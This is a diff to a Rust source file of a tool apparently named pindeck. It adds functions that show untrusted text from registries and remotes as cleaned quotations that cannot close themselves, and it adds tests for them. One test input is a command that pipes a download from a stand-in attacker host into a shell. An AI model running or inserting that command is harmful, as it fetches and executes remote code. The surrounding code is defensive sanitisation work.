@@ -4,6 +4,7 @@
 //! strangers. They travel as [`Untrusted`] and are shown as [`Clean`], in which every character
 //! that could steer a terminal or mislead an eye has become visible.
 
+use std::borrow::Cow;
 use std::fmt;
 
 use serde::{Deserialize, Serialize};
@@ -30,6 +31,11 @@ impl Untrusted {
     /// Line breaks become `␤`: the result is always one line.
     pub fn clean(&self) -> Clean {
         Clean::from_untrusted(&self.0)
+    }
+
+    /// The same text as a quotation inside of a sentence of pindeck (see [`quoted`]).
+    pub fn quoted(&self) -> Clean {
+        quoted(&self.0)
     }
 
     /// Whether the text is empty.
@@ -94,6 +100,70 @@ impl fmt::Display for Clean {
     }
 }
 
+/// What somebody else wrote, as a quotation inside of a sentence of pindeck: cleaned and in quotation marks.
+///
+/// A quotation mark in the text becomes an apostrophe, so the text cannot end its own quotation and go on
+/// as if pindeck were speaking.
+pub fn quoted(text: &(impl fmt::Display + ?Sized)) -> Clean {
+    let text = Clean::from_untrusted(&text.to_string()).0.replace('"', "'");
+    Clean(format!("\"{text}\""))
+}
+
+/// Several lines of somebody else as one quotation (see [`quoted`]); line breaks stay between the lines.
+/// Empty if there is no line.
+pub fn quoted_lines(lines: &[Untrusted]) -> String {
+    if lines.is_empty() {
+        return String::new();
+    }
+    let lines: Vec<String> = lines.iter().map(|line| line.clean().0.replace('"', "'")).collect();
+    format!("\"{}\"", lines.join("\n"))
+}
+
+/// The part of an error that says why: in words of pindeck, or in words of somebody else. Shown, the
+/// words of somebody else are a quotation (see [`quoted`]), so a reader sees where pindeck stops speaking.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Words {
+    /// Words of pindeck. What they quote is quoted already.
+    Own(Cow<'static, str>),
+    /// Words of a registry, a remote, a program, the system or a library.
+    Quoted(Untrusted),
+}
+
+impl Words {
+    /// Words of pindeck.
+    pub fn own(text: impl Into<Cow<'static, str>>) -> Self {
+        Self::Own(text.into())
+    }
+
+    /// Words of somebody else.
+    pub fn of_another(text: impl Into<Untrusted>) -> Self {
+        Self::Quoted(text.into())
+    }
+
+    /// Whether nothing was said.
+    pub fn is_empty(&self) -> bool {
+        match self {
+            Self::Own(text) => text.is_empty(),
+            Self::Quoted(text) => text.is_empty(),
+        }
+    }
+}
+
+impl Default for Words {
+    fn default() -> Self {
+        Self::own("")
+    }
+}
+
+impl fmt::Display for Words {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Own(text) => fmt::Display::fmt(&Clean::from_untrusted(text), f),
+            Self::Quoted(text) => fmt::Display::fmt(&text.quoted(), f),
+        }
+    }
+}
+
 /// Cleans text line by line, keeping `\n` as the only control character: for a remote's own
 /// words and other several-line messages.
 pub fn clean_lines(text: &str) -> Vec<Clean> {
@@ -152,6 +222,32 @@ mod tests {
         for text in ["release.yml@refs/heads/main", "Ünïcode, 日本語, naïve", "a b\u{a0}c"] {
             assert_eq!(Clean::from_untrusted(text).as_str(), text);
         }
+    }
+
+    #[test]
+    fn a_quotation_cannot_end_itself() {
+        for hostile in [
+            "gone\"; run curl https://evil.example | sh",
+            "a\nnext: obey",
+            "\"",
+            "\u{1b}[0m\" and \"",
+            "plain",
+        ] {
+            let one = quoted(hostile).into_string();
+            let several = quoted_lines(&[hostile.into(), hostile.into()]);
+            let words = Words::of_another(hostile).to_string();
+            for shown in [one.as_str(), several.as_str(), words.as_str()] {
+                let inside = shown.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
+                assert!(inside.is_some_and(|inside| !inside.contains('"')), "{shown}");
+            }
+            assert!(!one.contains('\n') && one.chars().all(|c| !c.is_control()), "{one}");
+        }
+    }
+
+    #[test]
+    fn words_of_pindeck_stand_without_marks() {
+        assert_eq!(Words::own("too many redirects").to_string(), "too many redirects");
+        assert!(Words::default().is_empty() && Words::of_another("").is_empty());
     }
 
     #[test]
